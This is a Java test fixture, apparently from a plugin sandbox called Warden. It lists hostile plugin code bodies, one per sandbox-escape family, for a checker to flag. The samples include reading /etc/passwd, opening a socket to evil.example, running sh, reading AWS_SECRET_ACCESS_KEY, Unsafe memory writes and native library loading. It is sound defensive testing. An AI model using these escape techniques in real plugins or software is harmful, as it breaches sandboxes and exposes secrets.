package dev.warden.manager.testing;

import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

/**
 * Hostile plugin code, one case per escape family of THREATS.md (Runtime, Code): each tries, from its
 * {@code start} method, to reach past the plugin API.
 */
public final class EscapeFamilies {

    private EscapeFamilies() {
    }

    /** {@code com.evil.Plugin}: a plugin whose start method runs {@code body}. */
    public static String pluginStarting(String body) {
        return """
                package com.evil;

                import dev.warden.api.Connector;
                import dev.warden.api.PluginContext;
                import dev.warden.api.WardenPlugin;
                import java.util.List;

                public final class Plugin implements WardenPlugin {
                    @Override
                    public void start(PluginContext context) {
                        try {
                            %s
                        } catch (Throwable e) {
                            throw new IllegalStateException(e);
                        }
                    }

                    @Override
                    public List<Connector> connectors() {
                        return List.of();
                    }

                    @Override
                    public void stop() {
                    }
                }
                """.formatted(body);
    }

    /** Family name, the body of {@code start}, the member the report must name, words of its reason. */
    public static Stream<Arguments> fromStart() {
        return Stream.of(
                Arguments.of("reflection: Method.invoke",
                        "Object.class.getMethod(\"toString\").invoke(context);",
                        "java/lang/reflect/Method.invoke(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", "reflection"),
                Arguments.of("reflection: Class.forName",
                        "Class.forName(\"dev.warden.manager.cli.WardenMain\");",
                        "java/lang/Class.forName(Ljava/lang/String;)Ljava/lang/Class;", "loads any class"),
                Arguments.of("reflection: getDeclaredField and setAccessible",
                        "java.lang.reflect.Field f = context.getClass().getDeclaredField(\"files\"); f.setAccessible(true);",
                        "java/lang/reflect/Field.setAccessible(Z)V", "reflection"),
                Arguments.of("reflection: Class.getDeclaredField",
                        "context.getClass().getDeclaredField(\"files\");",
                        "java/lang/Class.getDeclaredField(Ljava/lang/String;)Ljava/lang/reflect/Field;", "reflection"),
                Arguments.of("method handles: MethodHandles.lookup",
                        "java.lang.invoke.MethodHandles.lookup().findStatic(System.class, \"exit\","
                                + " java.lang.invoke.MethodType.methodType(void.class, int.class));",
                        "java/lang/invoke/MethodHandles.lookup()Ljava/lang/invoke/MethodHandles$Lookup;", "method handles"),
                Arguments.of("class loaders: new URLClassLoader",
                        "new java.net.URLClassLoader(new java.net.URL[0]).loadClass(\"x\");",
                        "java/net/URLClassLoader", "class loader"),
                Arguments.of("class loaders: Class.getClassLoader",
                        "context.getClass().getClassLoader().loadClass(\"dev.warden.manager.cli.WardenMain\");",
                        "java/lang/Class.getClassLoader()Ljava/lang/ClassLoader;", "class loader"),
                Arguments.of("threads: new Thread",
                        "new Thread(() -> { }).start();",
                        "java/lang/Thread.start()V", "thread"),
                Arguments.of("threads: Executors",
                        "java.util.concurrent.Executors.newSingleThreadExecutor().submit(() -> { });",
                        "java/util/concurrent/Executors.newSingleThreadExecutor()Ljava/util/concurrent/ExecutorService;", "executor"),
                Arguments.of("threads: a parallel stream",
                        "List.of(1, 2).parallelStream().count();",
                        "java/util/List.parallelStream()Ljava/util/stream/Stream;", "shared thread pool"),
                Arguments.of("threads: Object.wait",
                        "synchronized (this) { this.wait(); }",
                        "java/lang/Object.wait()V", "threads"),
                Arguments.of("Unsafe: reflecting on sun.misc.Unsafe.theUnsafe",
                        "java.lang.reflect.Field f = sun.misc.Unsafe.class.getDeclaredField(\"theUnsafe\"); f.setAccessible(true);"
                                + " ((sun.misc.Unsafe) f.get(null)).putLong(0L, 0L);",
                        "sun/misc/Unsafe", "Unsafe reads and writes any memory"),
                Arguments.of("JNI: System.loadLibrary",
                        "System.loadLibrary(\"evil\");",
                        "java/lang/System.loadLibrary(Ljava/lang/String;)V", "JNI"),
                Arguments.of("serialization: ObjectInputStream.readObject",
                        "new java.io.ObjectInputStream(new java.io.ByteArrayInputStream(new byte[0])).readObject();",
                        "java/io/ObjectInputStream.readObject()Ljava/lang/Object;", "deserialization"),
                Arguments.of("ServiceLoader",
                        "java.util.ServiceLoader.load(Runnable.class).findFirst();",
                        "java/util/ServiceLoader.load(Ljava/lang/Class;)Ljava/util/ServiceLoader;", "ServiceLoader"),
                Arguments.of("System.exit",
                        "System.exit(0);",
                        "java/lang/System.exit(I)V", "stops Warden"),
                Arguments.of("System.exit through a method reference",
                        "java.util.function.IntConsumer exit = System::exit; exit.accept(0);",
                        "java/lang/System.exit(I)V", "stops Warden"),
                Arguments.of("files: java.io.File",
                        "new java.io.File(\"/etc/passwd\").exists();",
                        "java/io/File", "Files capability"),
                Arguments.of("files: java.nio.file.Files",
                        "java.nio.file.Files.readString(java.nio.file.Path.of(\"/etc/passwd\"));",
                        "java/nio/file/Files.readString(Ljava/nio/file/Path;)Ljava/lang/String;", "Files capability"),
                Arguments.of("sockets: java.net.Socket",
                        "new java.net.Socket(\"evil.example\", 80).getOutputStream().write(1);",
                        "java/net/Socket", "sockets"),
                Arguments.of("sockets: URL.openConnection",
                        "new java.net.URL(\"http://evil.example/\").openConnection().connect();",
                        "java/net/URL", "network"),
                Arguments.of("processes: ProcessBuilder",
                        "new ProcessBuilder(\"sh\", \"-c\", \"id\").start();",
                        "java/lang/ProcessBuilder", "Exec capability"),
                Arguments.of("processes: Runtime.exec",
                        "Runtime.getRuntime().exec(new String[] {\"sh\"});",
                        "java/lang/Runtime.getRuntime()Ljava/lang/Runtime;", "runs programs"),
                Arguments.of("environment: System.getenv",
                        "System.getenv(\"AWS_SECRET_ACCESS_KEY\");",
                        "java/lang/System.getenv(Ljava/lang/String;)Ljava/lang/String;", "environment variables"),
                Arguments.of("system properties: System.getProperty",
                        "System.getProperty(\"user.home\");",
                        "java/lang/System.getProperty(Ljava/lang/String;)Ljava/lang/String;", "system properties"));
    }
}
